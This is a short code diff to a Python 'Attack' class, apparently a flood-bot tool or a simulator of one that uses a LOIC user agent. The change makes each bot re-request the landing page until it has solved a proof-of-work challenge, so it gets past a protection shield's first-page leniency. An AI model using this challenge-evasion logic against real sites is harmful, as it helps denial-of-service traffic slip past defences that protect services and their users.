@@ -292,13 +292,16 @@ class Attack:
             self.idle[source] = conn
 
     async def _pass_challenges(self, stop_at: float) -> None:
-        """Each bot loads the landing page once, solves any challenge like a browser, keeps the cookie."""
+        """Each bot loads the landing page until it has solved a challenge like a
+        browser (a shield may let a new client's first page through unchecked:
+        then the bot asks once more, to be checked and hold a pass), keeps the cookie."""
         async def one(source: str) -> None:
             conn = Connection(self.host, self.port, source)
             jar = CookieJar()
             ph = self.stats.phase(self.phase())
+            solved = False
             try:
-                for _ in range(4):
+                for attempt in range(4):
                     ph.requests += 1
                     self.stats.sources.add(source)
                     resp = await conn.request("GET", "/", [("User-Agent", "Mozilla/5.0 (LOIC)"), *jar.header()],
@@ -306,7 +309,10 @@ class Attack:
                     jar.update(resp)
                     c = chal.find(resp.body)
                     if c is None:
-                        break
+                        if solved or attempt >= 1:
+                            break  # holds its pass, or the shop is not checking anyone
+                        continue
+                    solved = True
                     loop = asyncio.get_running_loop()
                     nonce = await loop.run_in_executor(self.solver, chal.solve, c.challenge, c.difficulty)
                     ph.requests += 1
